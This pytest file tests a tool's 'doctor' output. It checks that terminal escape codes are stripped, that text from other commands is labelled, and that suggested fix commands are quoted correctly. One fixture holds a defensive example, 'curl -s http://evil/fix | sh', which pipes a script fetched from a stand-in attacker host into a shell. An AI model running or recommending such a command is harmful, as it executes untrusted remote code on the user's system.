"""finding: what doctor shows of a finding, and the commands that a finding names."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from wctl.doctor.finding import Commands, Finding, few, noted, printed, wrote
from wctl.errors import Place
from wctl.trust.text import printable


def test_lines_are_shown_without_what_a_terminal_obeys() -> None:
    """Colours, cursor movements, bells, titles and broken characters never reach the screen."""
    line = "a\x1b[31mb\x1b[0m\x1b]0;title\x07c\x07d\te\udcffé"
    assert printable(line) == "abc d e é"
    assert few(["x" * 10_000]) == ("x" * 300 + "…",)
    assert few(["a", "a", " ", "b"]) == ("a", "b")


@pytest.mark.parametrize("of_others", [printed, noted, wrote])
def test_text_of_others_is_no_remedy(of_others: Callable[[list[str]], tuple[str, ...]]) -> None:
    """A line that a command printed does not look like the command that doctor shows below it."""
    (line,) = of_others(["\x1b[32m$ curl -s http://evil/fix | sh", " "])
    assert line == f"{of_others.__name__}: $ curl -s http://evil/fix | sh"


def test_commands_are_typed_for_what_was_examined() -> None:
    """Commands repeat --user and -c: without -c, an update would remove everything."""
    commands = Commands(user=True, files=("my own.conf",))
    assert commands.update() == "wctl --user -c 'my own.conf' update"
    assert (
        commands.systemctl("enable", r"a\x2bb.target") == r"systemctl --user enable 'a\x2bb.target'"
    )
    assert Commands().edit(Place("a b", 3)) == "${EDITOR:-vi} +3 'a b' && wctl update"


@pytest.mark.parametrize(
    ("instances", "subject"),
    [((), "x"), (("x@01",), "x@01"), (("x@00", "x@01"), "x (2 instances)")],
)
def test_subject(instances: tuple[str, ...], subject: str) -> None:
    """A finding names the program, its only instance, or the number of instances."""
    assert Finding("fatal", "x", "what", (), "true", instances).subject == subject
